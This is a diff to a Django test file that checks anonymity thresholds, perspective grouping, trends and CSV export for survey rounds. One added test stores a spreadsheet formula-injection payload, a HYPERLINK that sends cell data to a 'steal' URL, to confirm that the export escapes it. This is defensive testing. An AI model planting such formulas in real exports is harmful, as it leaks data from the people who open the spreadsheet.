@@ -15,9 +15,10 @@ from django.utils import timezone
 
 from members.models import Perspective, User, Visibility
 from tests.factories import UserFactory
-from vision.models import Rating, Round, RoundStatement
+from tests.vision.rounds import close_early, were_members_when_it_opened
+from vision.models import KeyRole, Rating, Round, RoundStatement, Statement
 from vision.results import ROUND_GROUP_MIN, results_csv, round_results, safe_groups, trend
-from vision.services import answers_save, round_close, round_open
+from vision.services import answers_save, framework_start, round_open
 
 pytestmark = pytest.mark.django_db
 
@@ -43,6 +44,7 @@ def role_statements(round: Round, number: int = 1) -> list[RoundStatement]:
 def answer(round: Round, users, rating: str, statements: list[RoundStatement] | None = None, comment: str = "") -> None:
     """Each of `users` gives `rating` to `statements` (all of key role 1 unless given)."""
     statements = role_statements(round) if statements is None else statements
+    were_members_when_it_opened(round, users)
     for user in users:
         answers_save(round=round, user=user, answers={s.pk: (rating, comment) for s in statements})
 
@@ -58,7 +60,7 @@ def closed_round(collaborative, facilitator, title: str, ratings: list[str]) -> 
     round = open_round(collaborative, facilitator, title)
     for rating in ratings:
         answer(round, people(1), rating)
-    return round_close(round=round, by=facilitator)
+    return close_early(round, facilitator)
 
 
 def groups(results, number: int = 1) -> dict[str, Counter]:
@@ -79,7 +81,7 @@ def test_nothing_is_shown_while_the_round_is_open(collaborative, facilitator):
 
     assert not round_results(round).shown
 
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
     results = round_results(round)
     assert results.shown
     assert results.respondents == 6
@@ -90,7 +92,7 @@ def test_a_round_answered_by_fewer_than_five_people_is_not_shown(collaborative, 
     answer(round, people(ROUND_GROUP_MIN - 1), Rating.STRONG)
     # A comment without a rating does not make someone a respondent.
     answer(round, people(1), "", comment="I was not sure what to say.")
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     results = round_results(round)
 
@@ -102,7 +104,7 @@ def test_a_round_answered_by_fewer_than_five_people_is_not_shown(collaborative, 
 def test_five_people_answering_is_enough(collaborative, facilitator):
     round = open_round(collaborative, facilitator)
     answer(round, people(5), Rating.STARTING)
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     results = round_results(round)
 
@@ -121,7 +123,7 @@ def test_five_people_answering_is_enough(collaborative, facilitator):
 
 def test_statements_and_key_roles_are_in_the_order_of_the_framework(collaborative, facilitator):
     round = open_round(collaborative, facilitator)
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     results = round_results(round)
 
@@ -138,12 +140,12 @@ def test_a_statement_answered_by_fewer_than_five_is_hidden_and_left_out_of_its_k
     everyone = people(6)
     answer(round, everyone, Rating.NOT_YET, shown)
     answer(round, everyone[:4], Rating.STRONG, [last])
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     role = round_results(round).key_roles[0]
 
     assert [s.shown for s in role.statements] == [True, True, True, True, False]
-    assert role.statements[4].tally.answered == 4
+    assert role.statements[4].tally.answered == 0  # Nothing is kept of a hidden statement.
     # The key role counts only the statements shown: taking them from its total gives nothing.
     assert +role.tally.counts == Counter({Rating.NOT_YET: 24})
     assert role.tally.counts == sum((s.tally.counts for s in role.statements if s.shown), Counter())
@@ -156,7 +158,7 @@ def test_someone_who_answered_only_a_hidden_statement_is_not_counted_in_its_key_
     first, *_, last = role_statements(round)
     answer(round, people(5), Rating.NOT_YET, [first])
     answer(round, people(3), Rating.STRONG, [last])
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     results = round_results(round)
 
@@ -171,7 +173,7 @@ def test_a_hidden_statement_is_left_out_of_its_key_roles_perspective_groups(coll
     lived, others = people(5, [LIVED]), people(5)
     answer(round, lived + others, Rating.NOT_YET, [first])
     answer(round, lived[:4], Rating.STRONG, [last])
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     assert groups(round_results(round)) == {LIVED_LABEL: Counter({Rating.NOT_YET: 5})}
 
@@ -189,9 +191,11 @@ def test_comments_are_shown_without_names_in_alphabetical_order(collaborative, f
         "carers are listened to",
         "Zero progress",
     ]
-    for user, comment in zip(people(5), comments, strict=True):
+    commenters = people(5)
+    were_members_when_it_opened(round, commenters)
+    for user, comment in zip(commenters, comments, strict=True):
         answers_save(round=round, user=user, answers={first.pk: (Rating.STARTING, comment)})
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     statement = round_results(round).key_roles[0].statements[0]
 
@@ -293,7 +297,7 @@ def test_a_group_that_all_gave_one_answer_is_not_shown(collaborative, facilitato
     round = open_round(collaborative, facilitator)
     answer(round, people(5, [CARER]), Rating.NOT_YET)
     answer_mostly(round, people(5), Rating.STRONG, Rating.STARTING)
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     results = round_results(round)
 
@@ -307,7 +311,7 @@ def test_one_persons_answers_cannot_be_had_by_taking_two_groups_from_everyone(co
     answer(round, people(5, [LIVED]), Rating.STARTING)
     answer(round, people(5, [CARER]), Rating.GETTING_THERE)
     answer(round, people(1), Rating.NOT_YET)  # Someone who shares no perspective (everyone knows who).
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     results = round_results(round)
 
@@ -319,7 +323,7 @@ def test_one_persons_answers_cannot_be_had_by_taking_two_groups_from_everyone(co
 def test_a_group_of_four_among_five_respondents_is_not_shown(collaborative, facilitator):
     round = open_round(collaborative, facilitator)
     answer(round, people(4, [LIVED]) + people(1, [CARER]), Rating.STRONG)
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     results = round_results(round)
 
@@ -331,7 +335,7 @@ def test_a_group_of_five_among_six_respondents_is_not_shown(collaborative, facil
     round = open_round(collaborative, facilitator)
     answer(round, people(5, [LIVED]), Rating.STRONG)
     answer(round, people(1), Rating.NOT_YET)
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     # Everyone's counts less the group's would be the sixth person's answers.
     assert groups(round_results(round)) == {}
@@ -342,7 +346,7 @@ def test_groups_of_five_or_more_far_enough_apart_are_shown_by_key_role(collabora
     answer_mostly(round, people(5, [LIVED]), Rating.STRONG, Rating.GETTING_THERE)
     answer_mostly(round, people(5, [CARER]), Rating.STARTING, Rating.NOT_YET)
     answer_mostly(round, people(5), Rating.NOT_YET, Rating.DONT_KNOW)
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     results = round_results(round)
 
@@ -358,7 +362,7 @@ def test_groups_of_five_or_more_far_enough_apart_are_shown_by_key_role(collabora
 def test_a_group_that_is_everyone_is_shown(collaborative, facilitator):
     round = open_round(collaborative, facilitator)
     answer(round, people(5, [LIVED, CARER]), Rating.GETTING_THERE)
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     assert groups(round_results(round)) == {
         LIVED_LABEL: Counter({Rating.GETTING_THERE: 25}),
@@ -371,7 +375,7 @@ def test_two_groups_a_few_people_apart_are_not_both_shown(collaborative, facilit
     answer(round, people(6, [LIVED, CARER]), Rating.STRONG)
     answer(round, people(2, [LIVED]), Rating.NOT_YET)
     answer_mostly(round, people(12), Rating.STARTING, Rating.DONT_KNOW)
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     # Lived experience (8) less carers (6) would be two people's answers: the smaller group goes.
     assert groups(round_results(round)) == {LIVED_LABEL: Counter({Rating.STRONG: 30, Rating.NOT_YET: 10})}
@@ -383,7 +387,7 @@ def test_perspectives_not_shared_with_members_are_not_used(collaborative, facili
     answer(round, people(4, [LIVED]), Rating.STRONG)
     answer(round, people(1, [LIVED], visibility=visibility), Rating.STRONG)
     answer(round, people(5), Rating.NOT_YET)
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     assert groups(round_results(round)) == {}
 
@@ -392,7 +396,7 @@ def test_perspectives_shared_with_members_are_used(collaborative, facilitator):
     round = open_round(collaborative, facilitator)
     answer_mostly(round, people(5, [LIVED]), Rating.STRONG, Rating.STARTING)
     answer_mostly(round, people(5), Rating.NOT_YET, Rating.STARTING)
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     assert groups(round_results(round)) == {LIVED_LABEL: Counter({Rating.STRONG: 20, Rating.STARTING: 5})}
 
@@ -409,7 +413,7 @@ def test_the_export_has_the_counts_shown_and_a_note_for_hidden_statements(collab
     answer(round, others[:4], Rating.NOT_YET, shown)
     answer(round, others[4:], Rating.DONT_KNOW, shown)
     answer(round, lived[:4], Rating.GETTING_THERE, [last])
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     rows = csv_rows(round_results(round))
 
@@ -466,7 +470,7 @@ def test_the_export_has_no_comments_and_nothing_about_who_answered(collaborative
     respondents = people(6, [LIVED])
     for n, user in enumerate(respondents):
         answer(round, [user], Rating.STRONG, comment=f"My own words number {n}")
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     exported = results_csv(round_results(round))
 
@@ -478,12 +482,34 @@ def test_the_export_has_no_comments_and_nothing_about_who_answered(collaborative
     assert {row["People who answered"] for row in csv.DictReader(io.StringIO(exported))} == {"6", "0", ""}
 
 
+def test_a_statement_or_key_role_starting_with_equals_is_plain_text_in_the_csv(collaborative, facilitator):
+    """Wording typed by facilitators reaches the CSV; a spreadsheet must show it, never run it."""
+    framework_start(collaborative=collaborative)
+    formula = '=HYPERLINK("https://example.org/steal?"&A1,"Click")'
+    KeyRole.objects.filter(collaborative=collaborative, number=1).update(title=formula)
+    Statement.objects.filter(key_role__collaborative=collaborative, key_role__number=1, position=0).update(text="=1+1")
+    Statement.objects.filter(key_role__collaborative=collaborative, key_role__number=2, position=0).update(
+        text="@SUM(A1:A9)"
+    )
+    round = open_round(collaborative, facilitator, title="-2+3")
+    answer(round, people(5), Rating.STRONG, list(round.statements.all()))
+    round = close_early(round, facilitator)
+
+    rows = list(csv.reader(io.StringIO(results_csv(round_results(round)).removeprefix("\ufeff"))))
+
+    first = rows[1]
+    assert first[:3] == ["'-2+3", f"1. {formula}", "'=1+1"]
+    assert any(row[2] == "'@SUM(A1:A9)" for row in rows)
+    # No cell anywhere starts as a formula would.
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
+
+
 def test_results_take_the_same_number_of_queries_however_many_answered(collaborative, facilitator):
     small, large = [], []
     for count, queries in ((5, small), (15, large)):
         round = open_round(collaborative, facilitator, f"Round of {count}")
         answer(round, people(count, [LIVED]), Rating.STRONG, list(round.statements.all()))
-        round = round_close(round=round, by=facilitator)
+        round = close_early(round, facilitator)
         with CaptureQueriesContext(connection) as captured:
             results_csv(round_results(round))
             trend(round)
@@ -566,7 +592,8 @@ def test_the_trend_leaves_out_an_open_round_when_looking_at_a_later_one(collabor
     """A round still open (here one whose dates were moved by hand) never shows in another round's trend."""
     spring = closed_round(collaborative, facilitator, "Spring", [Rating.STRONG] * 5)
     summer = closed_round(collaborative, facilitator, "Summer", [Rating.STRONG] * 5)
-    Round.objects.filter(pk=spring.pk).update(closes_at=timezone.now() + timedelta(days=30))
+    # As if it were open still: not counted yet.
+    Round.objects.filter(pk=spring.pk).update(closes_at=timezone.now() + timedelta(days=30), counted_at=None)
 
     assert trend(summer)[0] == [summer]
 
@@ -586,7 +613,7 @@ def test_the_trend_counts_only_statements_enough_people_answered(collaborative, 
     first, *_, last = role_statements(round)
     answer(round, people(5), Rating.NOT_YET, [first])
     answer(round, people(4), Rating.STRONG, [last])
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     _, series = trend(round)
 
@@ -619,7 +646,7 @@ def test_someone_who_stops_sharing_before_the_round_closes_is_not_counted_in_a_g
         | {"organisation_visibility": "members", "job_title_visibility": "members"},
     )
     assert response.status_code == 302
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     # Six carers answered; the one who stopped sharing is counted with everyone, not with the carers.
     assert [(label, tally.answered) for label, tally in round_results(round).key_roles[0].groups] == [(CARER_LABEL, 5)]
@@ -633,7 +660,7 @@ def test_a_closed_rounds_groups_do_not_move_when_someone_changes_their_profile(c
     carers = people(6, [CARER])
     answer_mostly(round, carers, Rating.STRONG, Rating.STARTING)
     answer_mostly(round, people(6), Rating.NOT_YET, Rating.DONT_KNOW)
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
     before = [(label, dict(tally.counts)) for label, tally in round_results(round).key_roles[0].groups]
 
     carers[0].perspectives_visibility = Visibility.NOBODY
@@ -651,7 +678,7 @@ def test_a_comment_without_a_rating_or_under_a_hidden_statement_is_not_shown(col
     answer(round, people(5), Rating.STRONG, statements=[first])
     answer(round, people(1), "", statements=[first], comment="Only a comment, no rating")
     answer(round, people(2), Rating.NOT_YET, statements=[second], comment="One of two who answered")
-    round = round_close(round=round, by=facilitator)
+    round = close_early(round, facilitator)
 
     statements = round_results(round).key_roles[0].statements
 
